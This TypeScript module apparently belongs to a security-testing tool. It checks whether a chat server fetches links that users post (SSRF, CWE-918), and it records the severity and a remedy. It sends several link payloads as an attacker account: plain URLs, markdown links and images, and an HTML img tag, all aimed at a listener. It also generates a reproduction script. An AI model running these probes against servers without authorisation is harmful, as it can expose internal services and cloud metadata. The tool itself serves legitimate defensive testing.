import { setTimeout as sleep } from 'node:timers/promises'
import { type BaseContext, defineAttack } from '../../attack.ts'
import { resisted, vulnerable } from '../../judge.ts'
import { control, openWitness } from '../../kit/attempt.ts'
import { attackerSession } from '../../kit/event-steps.ts'
import { openListener } from '../../kit/listener.ts'
import { listenLines } from '../../kit/listener-script.ts'
import { someText, type Written } from '../../reproduction/steps.ts'

export default defineAttack({
  id: 'crash/content-url-preview',
  rows: ['crash.content.url-preview'],
  title: 'Messages and profile texts with links to a listener of ours: does the server go there?',
  requirement: 'API7:2023: a server fetches no address that a user gives, or only what a list allows',
  impact: 'The server calls for an attacker what only it can reach: databases, metadata of the cloud, other services.',
  remedy: 'Make previews in the client, or through a fetcher that resolves first and refuses private addresses.',
  severity: 'high',
  cwe: ['CWE-918'],
  references: ['API7:2023'],
  effect: 'write',
  holds: 'account',
  provenBy: 'unfurl',
  needs: ['callback'],
  async run(context) {
    const { ownProfile } = context.target.profile
    const listener = await openListener(context, () => '<title>gatecrash</title>')
    try {
      const mark = context.canary()
      const witness = await openWitness(context)
      const speaker = await attackerSession(context)
      const texts = [
        `${listener.url}/${mark}`,
        `look: ${listener.url}/${mark}/page?x=1`,
        `[a](${listener.url}/${mark})`,
        `![a](${listener.url}/${mark}.png)`,
        `<img src="${listener.url}/${mark}.png">`,
      ]
      for (const text of texts) {
        speaker.say(text)
        await sleep(120, undefined, { signal: context.signal })
      }
      if (ownProfile !== undefined) {
        const text = `${listener.url}/${mark}`
        speaker.emit(ownProfile.update.event, context.target.fill(ownProfile.update.args, { text }))
      }
      const heard = await control(context, 'an honest message', witness)
      await context.wait(context.settleMs, 'for a visit of the server')
      const visits = listener.visits.filter((path) => path.startsWith(`/${mark}`))
      context.note('received', `${texts.length} messages with links; visits by the server: ${visits.length}`)
      if (visits.length === 0) return resisted(heard.observation, context.evidence)
      context.recording.written(script(context))
      return vulnerable(context.evidence)
    } finally {
      await listener.close()
    }
  },
})

function script({ target, attacker }: BaseContext): Written {
  const { chat, namespace, listener, ownProfile } = target.profile
  return (say) => {
    const { value, door } = say
    const emits = (event: string, args: unknown) =>
      `emit(c0, ${value(namespace)}, ${value(event)}, ${value(args)}, true)`
    const profile = ownProfile && target.fill(ownProfile.update.args, { text: someText })
    return `${listenLines(say, listener, "'<title>gatecrash</title>'")}
const link = here + '/from-a-message'
const c0 = await connect(${door({ token: attacker.token })}, true)
for (const text of [link, \`look: \${link}?x=1\`, \`[a](\${link})\`, \`![a](\${link}.png)\`, \`<img src="\${link}.png">\`]) {
  ${emits(chat.send.event, target.messageArgs(someText))}
${ownProfile ? `  ${emits(ownProfile.update.event, profile)}\n` : ''}  await sleep(120)
}
await until(() => calls.length > 0, 'the server does not go to the link')`
  }
}
